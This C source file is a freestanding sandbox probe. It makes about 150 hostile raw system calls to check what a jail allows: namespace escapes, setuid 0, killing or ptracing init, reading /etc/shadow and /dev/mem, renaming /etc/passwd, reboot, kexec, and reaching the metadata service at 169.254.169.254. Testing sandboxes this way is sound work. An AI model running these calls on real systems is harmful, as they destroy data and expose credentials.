/*
 * Hostile native code: does its worst by direct system call, with no library between it and the kernel, and says what the kernel answered.
 *
 * Each attempt is made in a child of its own, so that one that kills, blocks or takes the process along is an answer like any other. One
 * line for each: NAME and "errno N", "returned", "signal N" or "blocked". Ends with "done". With an argument: a census of all system calls instead.
 *
 * Freestanding (-nostdlib -static): small enough to be carried in a submitted program. x86-64. Never to be run outside a jail: with rights it
 * does what it says.
 */
#include <asm/unistd.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdint.h>

typedef long word;

enum { PATIENCE_POLLS = 2000, CENSUS_POLLS = 150, POLL_NS = 1000000, NOT_RETURNED = 1, SIGKILL = 9, WNOHANG = 1, AT_FDCWD = -100 };

static word make(word number, word a, word b, word c, word d, word e, word f)
{
    register word r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "+a"(number) : "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
    return number;
}

#define CALL1(n, a) make(n, (word)(a), 0, 0, 0, 0, 0)
#define CALL2(n, a, b) make(n, (word)(a), (word)(b), 0, 0, 0, 0)
#define CALL3(n, a, b, c) make(n, (word)(a), (word)(b), (word)(c), 0, 0, 0)
#define CALL4(n, a, b, c, d) make(n, (word)(a), (word)(b), (word)(c), (word)(d), 0, 0)

/* Static memory that the calls point to. */
static char page[4096] __attribute__((aligned(4096)));
static struct { uint16_t family, port; uint32_t address; char rest[8]; } outside = {2, 0x5000, 0x08080808, {0}}; /* 8.8.8.8:80 */
static struct { uint16_t family, port; uint32_t address; char rest[8]; } metadata = {2, 0x5000, 0xfea9fea9, {0}}; /* 169.254.169.254:80 */
static const uint32_t all_capabilities[6] = {~0u, ~0u, ~0u, ~0u, ~0u, ~0u};
static const uint32_t capability_header[2] = {0x20080522, 0};
static const uint64_t infinite[2] = {~0ull, ~0ull};
static const uint64_t clone3_arguments[8] = {0x10000000, 0, 0, 0, 17, 0, 0, 0};
static const int32_t priority = 1;
static const uint32_t root_group = 0;

struct attempt {
    const char *name;
    word number;
    word a[6];
};

#define P(x) ((word)(x))

static const struct attempt attempts[] = {
    /* Out of the namespaces, or into new ones where one would be root. */
    {"unshare user", __NR_unshare, {0x10000000}},
    {"unshare mount", __NR_unshare, {0x00020000}},
    {"unshare pid", __NR_unshare, {0x20000000}},
    {"unshare net", __NR_unshare, {0x40000000}},
    {"unshare ipc", __NR_unshare, {0x08000000}},
    {"unshare uts", __NR_unshare, {0x04000000}},
    {"unshare cgroup", __NR_unshare, {0x02000000}},
    {"unshare time", __NR_unshare, {0x00000080}},
    {"clone user", __NR_clone, {0x10000011}},
    {"clone mount", __NR_clone, {0x00020011}},
    {"clone parent's sibling", __NR_clone, {0x00008011}},
    {"clone3 user", __NR_clone3, {P(clone3_arguments), 64}},
    {"setns", __NR_setns, {0, 0}},
    {"mount tmpfs", __NR_mount, {P("none"), P("/tmp"), P("tmpfs"), 0, 0}},
    {"remount / for writing", __NR_mount, {P("none"), P("/"), P(""), 0x1020, 0}},
    {"umount /proc", __NR_umount2, {P("/proc"), 2}},
    {"pivot_root", __NR_pivot_root, {P("/tmp"), P("/tmp")}},
    {"chroot", __NR_chroot, {P("/tmp")}},
    {"fsopen", __NR_fsopen, {P("tmpfs"), 0}},
    {"open_tree clone", __NR_open_tree, {AT_FDCWD, P("/"), 1}},
    {"move_mount", __NR_move_mount, {AT_FDCWD, P("/tmp"), AT_FDCWD, P("/proc"), 0}},
    {"mount_setattr", __NR_mount_setattr, {AT_FDCWD, P("/"), 0, P(page), 32}},

    /* To be somebody else. */
    {"setuid 0", __NR_setuid, {0}},
    {"setgid 0", __NR_setgid, {0}},
    {"setresuid 0", __NR_setresuid, {0, 0, 0}},
    {"setgroups root", __NR_setgroups, {1, P(&root_group)}},
    {"capset all", __NR_capset, {P(capability_header), P(all_capabilities)}},
    {"ambient capability", __NR_prctl, {47, 2, 21, 0, 0}},
    {"no_new_privs off", __NR_prctl, {38, 0, 0, 0, 0}},
    {"securebits", __NR_prctl, {28, 0, 0, 0, 0}},
    {"mm fields", __NR_prctl, {35, 1, 4096, 0, 0}},
    {"address layout off", __NR_personality, {0x0040000}},
    {"chown to root", __NR_chown, {P("/tmp/attacker"), 0, 0}},

    /* Other processes: 1 is the jail's init, -1 all. */
    {"kill init", __NR_kill, {1, SIGKILL}},
    {"tgkill init", __NR_tgkill, {1, 1, SIGKILL}},
    {"queue a signal to init", __NR_rt_sigqueueinfo, {1, SIGKILL, P(page)}},
    {"pidfd of init", __NR_pidfd_open, {1, 0}},
    {"pidfd_getfd", __NR_pidfd_getfd, {0, 0, 0}},
    {"ptrace attach init", __NR_ptrace, {16, 1, 0, 0}},
    {"ptrace seize init", __NR_ptrace, {0x4206, 1, 0, 0}},
    {"ptrace me", __NR_ptrace, {0, 0, 0, 0}},
    {"read init's memory", __NR_process_vm_readv, {1, P(page), 1, P(page), 1, 0}},
    {"write init's memory", __NR_process_vm_writev, {1, P(page), 1, P(page), 1, 0}},
    {"kcmp", __NR_kcmp, {1, 1, 0, 0, 0}},
    {"process_madvise", __NR_process_madvise, {0, 0, 0, 0, 0}},
    {"process_mrelease", __NR_process_mrelease, {0, 0}},
    {"limits of init", __NR_prlimit64, {1, 7, P(infinite), 0}},
    {"open init's memory", __NR_openat, {AT_FDCWD, P("/proc/1/mem"), 2}},
    {"open init's environment", __NR_openat, {AT_FDCWD, P("/proc/1/environ"), 0}},
    {"open init's root", __NR_openat, {AT_FDCWD, P("/proc/1/root/etc/passwd"), 0}},

    /* The kernel itself. */
    {"bpf map", __NR_bpf, {0, P(page), 64}},
    {"bpf program", __NR_bpf, {5, P(page), 64}},
    {"perf_event_open", __NR_perf_event_open, {P(page), 0, -1, -1, 0}},
    {"userfaultfd", __NR_userfaultfd, {1}},
    {"io_uring_setup", __NR_io_uring_setup, {1, P(page)}},
    {"io_uring_enter", __NR_io_uring_enter, {0, 1, 0, 0, 0, 0}},
    {"init_module", __NR_init_module, {P(page), 4096, P("")}},
    {"finit_module", __NR_finit_module, {0, P(""), 0}},
    {"delete_module", __NR_delete_module, {P("loop"), 0}},
    {"kexec_load", __NR_kexec_load, {0, 0, 0, 0}},
    {"kexec_file_load", __NR_kexec_file_load, {0, 0, 0, 0, 0}},
    {"reboot", __NR_reboot, {(word)0xfee1dead, 672274793, 0x1234567, 0}},
    {"syslog", __NR_syslog, {3, P(page), 4096}},
    {"acct", __NR_acct, {P("/tmp/attacker")}},
    {"swapon", __NR_swapon, {P("/tmp/attacker"), 0}},
    {"quotactl", __NR_quotactl, {0, P("/dev/sda"), 0, 0}},
    {"iopl", __NR_iopl, {3}},
    {"ioperm", __NR_ioperm, {0x60, 1, 1}},
    {"modify_ldt", __NR_modify_ldt, {1, P(page), 16}},
    {"settimeofday", __NR_settimeofday, {P(page), 0}},
    {"clock_settime", __NR_clock_settime, {0, P(page)}},
    {"adjtimex", __NR_adjtimex, {P(page)}},
    {"sethostname", __NR_sethostname, {P("mine"), 4}},
    {"setdomainname", __NR_setdomainname, {P("mine"), 4}},
    {"vhangup", __NR_vhangup, {0}},
    {"add_key", __NR_add_key, {P("user"), P("mine"), P(page), 8, -2}},
    {"request_key", __NR_request_key, {P("user"), P("mine"), 0, -2}},
    {"keyctl", __NR_keyctl, {0, -3, 1}},
    {"memfd_secret", __NR_memfd_secret, {0}},
    {"mincore", __NR_mincore, {P(page), 4096, P(page)}},
    {"move_pages", __NR_move_pages, {1, 0, 0, 0, 0, 0}},
    {"migrate_pages", __NR_migrate_pages, {1, 0, 0, 0}},
    {"fanotify_init", __NR_fanotify_init, {0, 0}},
    {"name_to_handle_at", __NR_name_to_handle_at, {AT_FDCWD, P("/"), P(page), P(page), 0}},
    {"open_by_handle_at", __NR_open_by_handle_at, {AT_FDCWD, P(page), 0}},
    {"message queue", __NR_mq_open, {P("mine"), 0102, 0600, 0}},
    {"SysV shared memory", __NR_shmget, {42, 4096, 01600}},

    /* More than its share. */
    {"real-time priority", __NR_sched_setscheduler, {0, 1, P(&priority)}},
    {"nice -20", __NR_setpriority, {0, 0, -20}},
    {"real-time I/O", __NR_ioprio_set, {1, 0, 1 << 13}},
    {"mlockall", __NR_mlockall, {3}},
    {"open files without limit", __NR_prlimit64, {0, 7, P(infinite), 0}},
    {"file size without limit", __NR_prlimit64, {0, 1, P(infinite), 0}},
    {"locked memory without limit", __NR_prlimit64, {0, 8, P(infinite), 0}},
    {"page zero", __NR_mmap, {0, 4096, 3, 0x32, -1, 0}},

    /* The network. */
    {"vsock", __NR_socket, {40, 1, 0}},
    {"AF_ALG", __NR_socket, {38, 5, 0}},
    {"packets", __NR_socket, {17, 3, 0x300}},
    {"raw ICMP", __NR_socket, {2, 3, 1}},
    {"ping", __NR_socket, {2, 2, 1}},
    {"SCTP", __NR_socket, {2, 1, 132}},
    {"MPTCP", __NR_socket, {2, 1, 262}},
    {"AF_XDP", __NR_socket, {44, 3, 0}},
    {"AF_RDS", __NR_socket, {21, 5, 0}},
    {"Bluetooth", __NR_socket, {31, 3, 1}},
    {"netfilter by netlink", __NR_socket, {16, 3, 12}},
    {"audit by netlink", __NR_socket, {16, 3, 9}},

    /* Files. */
    {"write to /usr", __NR_openat, {AT_FDCWD, P("/usr/bin/mine"), 0101, 0755}},
    {"write to its interpreter", __NR_openat, {AT_FDCWD, P("/usr/bin/python3"), 1}},
    {"rename in /etc", __NR_rename, {P("/etc/passwd"), P("/etc/mine")}},
    {"block device", __NR_mknod, {P("/tmp/mine-b"), 0060600, 0x800}},
    {"character device", __NR_mknod, {P("/tmp/mine-c"), 0020600, 0x101}},
    {"kernel's memory", __NR_openat, {AT_FDCWD, P("/dev/mem"), 0}},
    {"kernel's log", __NR_openat, {AT_FDCWD, P("/dev/kmsg"), 0}},
    {"kcore", __NR_openat, {AT_FDCWD, P("/proc/kcore"), 0}},
    {"core pattern", __NR_openat, {AT_FDCWD, P("/proc/sys/kernel/core_pattern"), 1}},
    {"sysrq", __NR_openat, {AT_FDCWD, P("/proc/sysrq-trigger"), 1}},
    {"cgroups", __NR_openat, {AT_FDCWD, P("/sys/fs/cgroup"), 0}},
    {"a shadow file", __NR_openat, {AT_FDCWD, P("/etc/shadow"), 0}},
    {"its own score for the OOM killer", __NR_openat, {AT_FDCWD, P("/proc/self/oom_score_adj"), 1}},
    {"its user map", __NR_openat, {AT_FDCWD, P("/proc/self/uid_map"), 1}},
    {"push input to a terminal", __NR_ioctl, {0, 0x5412, P("x")}},
    {"a number that no kernel has", 999, {0}},
    {"a negative number", -1, {0}},
};

static volatile word *shared;
static char output[65536];
static word used;

static void say(const char *text)
{
    while (*text != 0 && used < (word)sizeof output)
        output[used++] = *text++;
}

static void say_number(word value)
{
    char digits[20];
    int count = 0;
    do
        digits[count++] = (char)('0' + value % 10);
    while ((value /= 10) != 0);
    while (count > 0 && used < (word)sizeof output)
        output[used++] = digits[--count];
}

struct tried {
    word child, answer; /* NOT_RETURNED, 0 or an errno below 0 */
    int status, blocked;
};

/* One attempt in a child, which is killed when it has not ended after so many polls. */
static struct tried try_in_child(word (*attempt)(const void *), const void *argument, int patience)
{
    *shared = NOT_RETURNED;
    word child = make(__NR_clone, 17, 0, 0, 0, 0, 0);
    if (child == 0) {
        word answer = attempt(argument);
        *shared = answer < 0 && answer > -4096 ? answer : 0;
        make(__NR_exit_group, 0, 0, 0, 0, 0, 0);
    }
    int status = 0, polls = 0;
    word pause[2] = {0, POLL_NS};
    while (child > 0 && CALL4(__NR_wait4, child, &status, WNOHANG, 0) == 0 && polls++ < patience)
        CALL2(__NR_nanosleep, pause, 0);
    int blocked = polls > patience;
    if (blocked) {
        CALL2(__NR_kill, child, SIGKILL);
        CALL4(__NR_wait4, child, &status, 0, 0);
    }
    return (struct tried){child, *shared, status, blocked};
}

static void report(const char *name, word (*attempt)(const void *), const void *argument)
{
    struct tried tried = try_in_child(attempt, argument, PATIENCE_POLLS);
    say(name);
    if (tried.child < 0) {
        say(": no process: errno ");
        say_number(-tried.child);
    } else if (tried.answer < 0) {
        say(": errno ");
        say_number(-tried.answer);
    } else if (tried.answer == 0) {
        say(": returned");
    } else if (tried.blocked) {
        say(": blocked");
    } else {
        say(": signal ");
        say_number(tried.status & 0x7f);
    }
    say("\n");
}

static word by_table(const void *argument)
{
    const struct attempt *one = argument;
    return make(one->number, one->a[0], one->a[1], one->a[2], one->a[3], one->a[4], one->a[5]);
}

static word connect_to(const void *address)
{
    word file = CALL3(__NR_socket, 2, 1, 0);
    return file < 0 ? file : CALL3(__NR_connect, file, address, 16);
}

/* A filter of one's own may only take away; here it allows everything, and then a refused call is tried. */
static word filter_that_allows(const void *nothing)
{
    static struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    static struct sock_fprog program = {1, &allow};
    (void)nothing;
    CALL3(__NR_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
    return CALL1(__NR_unshare, 0x10000000);
}

/* The descriptor of a namespace, which is what setns takes; the call on descriptor 0 could be refused for that alone. */
static word join_own_namespace(const void *name)
{
    word file = CALL4(__NR_openat, AT_FDCWD, name, 0, 0);
    return file < 0 ? file : CALL2(__NR_setns, file, 0);
}

/* i386's getpid. */
static word through_int80(const void *nothing)
{
    word answer;
    (void)nothing;
    __asm__ volatile("int $0x80" : "=a"(answer) : "a"(20L) : "memory");
    return answer;
}

static word through_x32(const void *nothing)
{
    (void)nothing;
    return make(0x40000000L + __NR_getpid, 0, 0, 0, 0, 0, 0);
}

/* The kernel gives a descriptor of any process that can be named; it must be good for nothing. */
static word signal_by_descriptor(const void *nothing)
{
    (void)nothing;
    word file = CALL2(__NR_pidfd_open, 1, 0);
    return file < 0 ? file : CALL4(__NR_pidfd_send_signal, file, SIGKILL, 0, 0);
}

/* Descriptors above the three that a program is given. */
static word any_other_descriptor(const void *nothing)
{
    (void)nothing;
    for (word file = 3; file < 1024; file++)
        if (CALL3(__NR_fcntl, file, 1, 0) >= 0)
            return 0;
    return -9;
}

static void __attribute__((noreturn)) finish(void)
{
    for (word written = 0; written < used;) {
        word count = CALL3(__NR_write, 1, output + written, used - written);
        if (count <= 0)
            break;
        written += count;
    }
    make(__NR_exit_group, 0, 0, 0, 0, 0, 0);
    __builtin_unreachable();
}

/* Every number from 0 to 600 with null arguments: those that are neither refused nor unknown, as census.py prints them. */
static void __attribute__((noreturn)) take_census(void)
{
    for (word number = 0; number <= 600; number++) {
        /* clone, fork and vfork return twice; that they are made is what the rest of this program stands on. */
        if (number < __NR_clone || number > __NR_vfork) {
            struct attempt one = {0, number, {0}};
            word answer = try_in_child(by_table, &one, CENSUS_POLLS).answer;
            if (answer == -1 || answer == -38)
                continue;
        }
        if (number > 0)
            say(" ");
        say_number(number);
    }
    say("\n");
    finish();
}

void __attribute__((noreturn, used)) attack(const word *stack)
{
    shared = (word *)make(__NR_mmap, 0, 4096, 3, 0x21, -1, 0);
    if (stack[0] > 1)
        take_census(); /* any argument */
    for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++)
        report(attempts[i].name, by_table, &attempts[i]);
    report("connect to the internet", connect_to, &outside);
    report("connect to the metadata service", connect_to, &metadata);
    report("kill init by its descriptor", signal_by_descriptor, 0);
    report("user namespace behind a filter that allows it", filter_that_allows, 0);
    report("join init's pid namespace", join_own_namespace, "/proc/1/ns/pid");
    report("join a namespace by its descriptor", join_own_namespace, "/proc/self/ns/net");
    report("any other descriptor", any_other_descriptor, 0);
    report("x32", through_x32, 0);
    report("int 0x80", through_int80, 0);
    say("done\n");
    finish();
}

__asm__(".globl _start\n_start:\n\txor %ebp, %ebp\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall attack\n");
